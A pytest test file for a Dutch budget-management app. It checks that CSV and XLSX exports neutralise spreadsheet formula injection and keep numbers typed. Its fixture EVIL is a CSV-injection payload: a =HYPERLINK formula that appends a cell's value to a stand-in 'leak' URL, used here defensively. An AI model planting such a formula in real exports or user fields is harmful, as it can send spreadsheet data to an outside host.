"""Exports never carry a live formula: text a user wrote (a project title, a spending description) that starts
with =, +, -, @, a tab or a carriage return comes out with a leading apostrophe, in both CSV flavours and in the
XLSX (where it is a text cell, not a formula)."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from budget import services as budget_services
from budget.models import BudgetLine
from core.export import Money, Percent, csv_bytes, neutralised, xlsx_bytes
from projects.models import Project
from tests.urls import reverse

EVIL = '=HYPERLINK("https://example.org/?leak="&A1,"Klik")'


@pytest.mark.parametrize("text", [EVIL, "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_neutralised(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["Warme overstap", "—", "-", "2.1", "3,70%"])
def test_ordinary_text_is_left_alone(text):
    assert neutralised(text) == text


class _Table:
    def __init__(self, rows):
        self.rows = rows

    def as_values(self):
        return iter(self.rows)


def test_numbers_stay_numbers_in_every_format():
    table = _Table(
        [
            ["Naam", "Percentage", "Bedrag", "Aantal", "Kosten"],
            ["x", Percent("3.70"), Money("3464156"), 12, Money("1250.5")],
        ]
    )
    dutch = list(csv.reader(io.StringIO(csv_bytes(table, dutch=True).decode("utf-8-sig")), delimiter=";"))
    assert dutch[1] == ["x", "3,7", "3464156", "12", "1250,50"]
    plain = list(csv.reader(io.StringIO(csv_bytes(table, dutch=False).decode())))
    assert plain[1] == ["x", "3.7", "3464156", "12", "1250.50"]
    row = list(openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table))).active.iter_rows(min_row=2))[0]
    assert (row[1].value, row[1].number_format) == (pytest.approx(0.037), "0.00%")
    assert (row[2].value, row[2].number_format) == (3464156, '"€" #,##0.00')
    assert row[3].value == 12 and isinstance(Decimal(row[3].value), Decimal)


def _cells(response, export_format):
    if export_format == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]
    text = response.content.decode("utf-8-sig")
    delimiter = ";" if export_format == "csv" else ","
    return [(value, "s") for row in csv.reader(io.StringIO(text), delimiter=delimiter) for value in row]


@pytest.mark.parametrize("export_format", ["csv", "csv-punt", "xlsx"])
def test_a_title_and_a_description_written_as_formulas_stay_text_in_every_export(
    manager_client, demo, demo_user, export_format
):
    Project.objects.filter(programme=demo, code="3.2").update(title=EVIL)
    line = BudgetLine.objects.get(programme=demo, description="Verzuimaanpak 3.0")
    budget_services.spending_record(
        line=line, user=demo_user("programmamanager"), date=date(2024, 3, 1), description=EVIL, amount=Decimal(10),
        today=date(2024, 6, 30),
    )  # fmt: skip
    exports = [
        reverse("project_list"),
        reverse("project_dashboard"),
        reverse("budget_overview"),
        reverse("budget_line", kwargs={"pk": line.pk}),
    ]
    for url in exports:
        response = manager_client.get(url, {"_export": export_format})
        assert response.status_code == 200, url
        cells = _cells(response, export_format)
        texts = [value for value, _type in cells if isinstance(value, str)]
        assert not [text for text in texts if text.startswith("=")], url
        assert all(data_type != "f" for _value, data_type in cells), url
        if url in (exports[0], exports[1], exports[3]):
            assert any(text.startswith("'=HYPERLINK") for text in texts), url
